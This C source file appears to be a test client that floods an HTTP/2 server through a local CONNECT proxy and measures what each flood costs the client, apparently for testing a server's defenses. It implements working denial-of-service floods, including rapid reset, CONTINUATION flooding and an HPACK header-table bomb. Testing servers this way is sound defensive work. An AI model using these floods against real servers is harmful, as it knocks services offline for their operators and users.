/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A client that floods an HTTP/2 server through a CONNECT proxy, and says what that has cost it
 * (threats B1 to B5). In C, for the server's cost is compared with the attacker's: each frame is
 * made anew, as an attacker who wants answers must.
 *
 *     h2-flood PORT HOST:PORT CA KIND COUNT
 *
 * It says "ready" once HTTP/2 is agreed, floods when a byte comes on stdin, and ends when the
 * server has closed or COUNT frames are sent: "sent=N closed=0|1 code=N ms=N cpu_us=N life_us=N".
 * The first CPU time is that of the flood alone, the second has the handshakes before it too.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH    65536 /* bytes made before they are written */
#define SHOT_MAX 17000 /* bytes of the largest shot */
#define BOMB     14000 /* references in one block */

enum {
    DATA,
    HEADERS,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    PING = 6,
    GOAWAY,
    WINDOW_UPDATE,
    CONTINUATION
};
enum { END_STREAM = 1, END_HEADERS = 4 };

struct flood {
    SSL *tls;
    int fd;
    const char *authority;
    void (*shoot)(struct flood *flood);
    unsigned long count; /* of frames without use, wanted */
    unsigned long sent;  /* made so far; some may wait in `out` */
    uint32_t stream;     /* the next one */
    uint8_t out[BATCH + SHOT_MAX];
    size_t out_len;
    size_t out_at;
    uint8_t in[65536]; /* whole frames are taken out of it */
    size_t in_len;
    long code; /* of GOAWAY; -1: none came */
    int closed;
};

static _Noreturn void die(const char *what)
{
    fprintf(stderr, "h2-flood: %s: %s\n", what, strerror(errno));
    ERR_print_errors_fp(stderr);
    exit(1);
}

/* ---- Frames ---- */

static uint8_t *out_take(struct flood *flood, size_t len)
{
    uint8_t *at = flood->out + flood->out_len;

    if (flood->out_len + len > sizeof flood->out)
        die("a shot that is too large");
    flood->out_len += len;
    return at;
}

static void put_u32(uint8_t *at, uint32_t value)
{
    at[0] = (uint8_t)(value >> 24);
    at[1] = (uint8_t)(value >> 16);
    at[2] = (uint8_t)(value >> 8);
    at[3] = (uint8_t)value;
}

static uint32_t get_u32(const uint8_t *at)
{
    return (uint32_t)at[0] << 24 | (uint32_t)at[1] << 16 | (uint32_t)at[2] << 8 | at[3];
}

/* The head of a frame; returns room for its payload. */
static uint8_t *frame_put(struct flood *flood, uint8_t type, uint8_t flags, uint32_t stream,
                          size_t len)
{
    uint8_t *at = out_take(flood, 9 + len);

    put_u32(at, (uint32_t)len << 8 | type);
    at[4] = flags;
    put_u32(at + 5, stream);
    return at + 9;
}

/* HEADERS with a good request and `more` bytes behind it, to which it returns the way. */
static uint8_t *request_put(struct flood *flood, uint8_t flags, size_t more)
{
    static const uint8_t start[] = {0x82, 0x87, 0x84, 0x01}; /* GET, https, /, :authority */
    size_t len = strlen(flood->authority);
    uint8_t *at = frame_put(flood, HEADERS, flags, flood->stream, sizeof start + 1 + len + more);

    memcpy(at, start, sizeof start);
    at += sizeof start;
    *at++ = (uint8_t)len;
    memcpy(at, flood->authority, len);
    flood->stream += 2;
    return at + len;
}

static void u32_put(struct flood *flood, uint8_t type, uint32_t stream, uint32_t value)
{
    put_u32(frame_put(flood, type, 0, stream, 4), value);
}

/* ---- What is shot ---- */

static void shoot_rapid_reset(struct flood *flood)
{
    request_put(flood, END_HEADERS | END_STREAM, 0);
    u32_put(flood, RST_STREAM, flood->stream - 2, 8);
}

static void shoot_made_you_reset(struct flood *flood)
{
    request_put(flood, END_HEADERS | END_STREAM, 0);
    u32_put(flood, WINDOW_UPDATE, flood->stream - 2, 0x7fffffff);
}

static void shoot_continuation(struct flood *flood)
{
    if (flood->sent == 0)
        request_put(flood, END_STREAM, 0);
    frame_put(flood, CONTINUATION, 0, 1, 0);
}

static void shoot_bomb(struct flood *flood)
{
    if (flood->sent == 0) {
        uint8_t *at = request_put(flood, END_HEADERS | END_STREAM, 4006);

        memcpy(at, "\x40\x01x\x7f\xa1\x1e", 6); /* x: 4,000 bytes, into the table */
        memset(at + 6, 'y', 4000);
    }
    memset(request_put(flood, END_HEADERS | END_STREAM, BOMB), 0x80 | 62, BOMB);
}

static void shoot_ping(struct flood *flood)
{
    memset(frame_put(flood, PING, 0, 0, 8), 0, 8);
}

static void shoot_settings(struct flood *flood)
{
    frame_put(flood, SETTINGS, 0, 0, 0);
}

static void open_first(struct flood *flood)
{
    if (flood->sent == 0)
        request_put(flood, END_HEADERS, 0);
}

static void shoot_empty_data(struct flood *flood)
{
    open_first(flood);
    frame_put(flood, DATA, 0, 1, 0);
}

static void shoot_priority(struct flood *flood)
{
    open_first(flood);
    memset(frame_put(flood, PRIORITY, 0, 1, 5), 0, 5);
}

static void shoot_window_update(struct flood *flood)
{
    open_first(flood);
    u32_put(flood, WINDOW_UPDATE, 0, 1);
}

static const struct {
    const char *name;
    void (*shoot)(struct flood *flood);
} kinds[] = {
    {"rapid-reset", shoot_rapid_reset},
    {"made-you-reset", shoot_made_you_reset},
    {"continuation", shoot_continuation},
    {"bomb", shoot_bomb},
    {"ping", shoot_ping},
    {"settings", shoot_settings},
    {"empty-data", shoot_empty_data},
    {"priority", shoot_priority},
    {"window-update", shoot_window_update},
};

/* ---- The connection ---- */

static int proxy_connect(const char *port, const char *target)
{
    struct sockaddr_in address = {
        .sin_family = AF_INET,
        .sin_port = htons((uint16_t)strtoul(port, NULL, 10)),
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
    };
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    char text[1024];
    size_t len = 0;

    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address) < 0 ||
        setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one) < 0)
        die("connect");
    if (dprintf(fd, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target) < 0)
        die("CONNECT");
    while (len < 4 || memcmp(text + len - 4, "\r\n\r\n", 4) != 0) {
        if (len == sizeof text || read(fd, text + len, 1) != 1)
            die("no answer to CONNECT");
        len++;
    }
    if (memcmp(text, "HTTP/1.1 200 ", 13) != 0) {
        errno = ECONNREFUSED;
        die("CONNECT was refused");
    }
    return fd;
}

static SSL *tls_connect(int fd, char *host, const char *ca)
{
    static const uint8_t alpn[] = "\x02h2";
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL *tls;
    const uint8_t *chosen;
    unsigned len;

    if (context == NULL || SSL_CTX_load_verify_locations(context, ca, NULL) != 1)
        die("the CA");
    SSL_CTX_set_verify(context, SSL_VERIFY_PEER, NULL);
    SSL_CTX_set_mode(context, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    tls = SSL_new(context);
    if (tls == NULL || SSL_set_fd(tls, fd) != 1 || SSL_set_tlsext_host_name(tls, host) != 1 ||
        SSL_set1_host(tls, host) != 1 || SSL_set_alpn_protos(tls, alpn, 3) != 0 ||
        SSL_connect(tls) != 1)
        die("TLS");
    SSL_get0_alpn_selected(tls, &chosen, &len);
    if (len != 2)
        die("HTTP/2 was not agreed");
    return tls;
}

/* Looks for GOAWAY in what came. */
static void frames_read(struct flood *flood)
{
    size_t at = 0;

    while (flood->in_len - at >= 9) {
        size_t len = get_u32(flood->in + at) >> 8;

        if (flood->in_len - at < 9 + len)
            break;
        if (flood->in[at + 3] == GOAWAY && len >= 8)
            flood->code = (long)get_u32(flood->in + at + 9 + 4);
        at += 9 + len;
    }
    memmove(flood->in, flood->in + at, flood->in_len - at);
    flood->in_len -= at;
}

static void ended(struct flood *flood, int result)
{
    int why = SSL_get_error(flood->tls, result);

    if (why != SSL_ERROR_WANT_READ && why != SSL_ERROR_WANT_WRITE)
        flood->closed = 1;
}

static void some_read(struct flood *flood)
{
    int len =
        SSL_read(flood->tls, flood->in + flood->in_len, (int)(sizeof flood->in - flood->in_len));

    if (len > 0) {
        flood->in_len += (size_t)len;
        frames_read(flood);
    } else {
        ended(flood, len);
    }
}

static void some_write(struct flood *flood)
{
    int len;

    if (flood->shoot == NULL)
        return; /* kind_find() does not let that happen */
    if (flood->out_at == flood->out_len) {
        flood->out_at = 0;
        flood->out_len = 0;
        while (flood->out_len < BATCH && flood->sent < flood->count) {
            flood->shoot(flood);
            flood->sent++;
        }
    }
    if (flood->out_at == flood->out_len)
        return;
    len = SSL_write(flood->tls, flood->out + flood->out_at, (int)(flood->out_len - flood->out_at));
    if (len > 0)
        flood->out_at += (size_t)len;
    else
        ended(flood, len);
}

static int64_t clock_us(clockid_t clock)
{
    struct timespec now;

    if (clock_gettime(clock, &now) < 0)
        die("clock");
    return (int64_t)now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

/* Until the server has closed; a second of patience once everything is sent. */
static void flood_run(struct flood *flood)
{
    while (!flood->closed) {
        int idle = flood->sent == flood->count && flood->out_at == flood->out_len;
        struct pollfd poll_fd = {.fd = flood->fd,
                                 .events = (short)(idle ? POLLIN : POLLIN | POLLOUT)};

        if (poll(&poll_fd, 1, 1000) == 0)
            break;
        if (poll_fd.revents & (POLLIN | POLLHUP | POLLERR))
            some_read(flood);
        if (!flood->closed && !idle && (poll_fd.revents & POLLOUT))
            some_write(flood);
    }
    /* What the server still says is of interest even where it takes nothing more. */
    while (flood->in_len < sizeof flood->in && SSL_has_pending(flood->tls)) {
        size_t before = flood->in_len;

        some_read(flood);
        if (flood->in_len == before)
            break;
    }
}

static void kind_find(struct flood *flood, const char *name)
{
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, name) == 0)
            flood->shoot = kinds[i].shoot;
    }
    if (flood->shoot == NULL) {
        errno = EINVAL;
        die(name);
    }
}

int main(int argc, char **argv)
{
    static struct flood flood = {.code = -1, .stream = 1};
    char host[256];
    int64_t start_us;
    int64_t cpu_us;
    int64_t life_us = clock_us(CLOCK_PROCESS_CPUTIME_ID);
    int64_t end_us;
    char go;

    if (argc != 6 || strlen(argv[2]) >= 127) {
        fprintf(stderr, "usage: h2-flood PORT HOST:PORT CA KIND COUNT\n");
        return 2;
    }
    if (signal(SIGPIPE, SIG_IGN) == SIG_ERR)
        die("signal");
    kind_find(&flood, argv[4]);
    flood.authority = argv[2];
    flood.count = strtoul(argv[5], NULL, 10);
    (void)snprintf(host, sizeof host, "%.*s", (int)strcspn(argv[2], ":"), argv[2]);
    flood.fd = proxy_connect(argv[1], argv[2]);
    flood.tls = tls_connect(flood.fd, host, argv[3]);
    memcpy(out_take(&flood, 24), "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    frame_put(&flood, SETTINGS, 0, 0, 0);
    if (SSL_write(flood.tls, flood.out, (int)flood.out_len) != (int)flood.out_len ||
        fcntl(flood.fd, F_SETFL, O_NONBLOCK) < 0)
        die("preface");
    flood.out_at = flood.out_len;
    puts("ready");
    fflush(stdout);
    if (read(STDIN_FILENO, &go, 1) < 0)
        die("stdin");
    start_us = clock_us(CLOCK_MONOTONIC);
    cpu_us = clock_us(CLOCK_PROCESS_CPUTIME_ID);
    flood_run(&flood);
    end_us = clock_us(CLOCK_PROCESS_CPUTIME_ID);
    printf("sent=%lu closed=%d code=%ld ms=%lld cpu_us=%lld life_us=%lld\n", flood.sent,
           flood.closed, flood.code, (long long)(clock_us(CLOCK_MONOTONIC) - start_us) / 1000,
           (long long)(end_us - cpu_us), (long long)(end_us - life_us));
    return 0;
}
